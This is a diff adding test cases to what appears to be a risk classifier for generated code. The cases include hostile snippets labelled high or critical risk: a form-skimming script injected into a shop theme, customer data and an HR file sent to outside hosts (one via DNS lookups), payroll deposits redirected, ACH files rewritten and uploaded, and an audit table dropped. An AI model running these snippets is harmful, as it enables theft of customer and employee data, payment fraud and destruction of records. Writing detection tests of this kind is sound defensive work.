@@ -3355,6 +3355,55 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
          "cn.cursor().execute('TRUNCATE TABLE sales_order')", H),
         ("import psycopg2\nc = psycopg2.connect(host='wh-prod.internal')\n"
          "c.cursor().execute('TRUNCATE staging.stg_clicks')", S),
+        # stores: customers and orders read from admin APIs, delete mutations over a listing, free discounts
+        (
+            "import requests\nrows = requests.get('https://shop.myshopify.com/admin/api/2024-01/customers.json').json()\n"
+            "requests.post('https://hooks.partner.example/ingest', json=rows)",
+            C,
+        ),
+        (
+            "import requests\nDELETE = 'mutation($id: ID!) { productDelete(input: {id: $id}) { deletedProductId } }'\n"
+            "for e in requests.post(URL, json={'query': LIST}).json()['edges']:\n"
+            "    requests.post(URL, json={'query': DELETE, 'variables': {'id': e['id']}})",
+            H,
+        ),
+        (
+            "import requests\nrule = {'price_rule': {'value_type': 'percentage', 'value': '-100.0', "
+            "'usage_limit': None}}\nrequests.post(f'{API}/price_rules.json', json=rule)",
+            H,
+        ),
+        (
+            "import requests\nrule = {'price_rule': {'value_type': 'percentage', 'value': '-15.0', "
+            "'usage_limit': 1}}\nrequests.post(f'{API}/price_rules.json', json=rule)",
+            L,
+        ),
+        (
+            "GRAB = \"<script>document.addEventListener('submit',function(e){navigator.sendBeacon("
+            "'https://cdn-assets.co/c',JSON.stringify(new FormData(e.target)))})</script>\"\n"
+            "requests.put(url, json={'asset': {'key': 'layout/theme.liquid', 'value': layout + GRAB}})",
+            H,
+        ),
+        # payroll and accounting: pay redirected, admins added, payment files rewritten or submitted
+        (
+            "import requests\nrequests.put(f'https://api.gusto.com/v1/employees/{emp}/payment_method', "
+            "json={'type': 'Direct Deposit'})",
+            H,
+        ),
+        ("import requests\nrequests.post(f'https://api.gusto.com/v1/companies/{c}/admins', json={'email': e})", H),
+        (
+            "path = '/mnt/payroll/approved/PPD_20240614.ach'\nrecords = open(path).read().splitlines()\n"
+            "with open(path, 'w') as fh:\n    fh.write('\\n'.join(records))",
+            H,
+        ),
+        ("import paramiko\nsftp = paramiko.SFTPClient.from_transport(t)\n"
+         "sftp.put('out/PPD_bonus.ach', '/inbound/x.ach')", H),
+        (
+            "import socket\nfor row in open('/srv/hr/exports/employees_full.csv'):\n"
+            "    socket.gethostbyname(f'{row[:20]}.x.d9f3.oast.fun')",
+            H,
+        ),
+        ("import psycopg2\nc = psycopg2.connect(os.environ['FINANCE_PROD_DSN'])\n"
+         "c.cursor().execute('DROP TABLE IF EXISTS gl.journal_audit CASCADE')", H),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
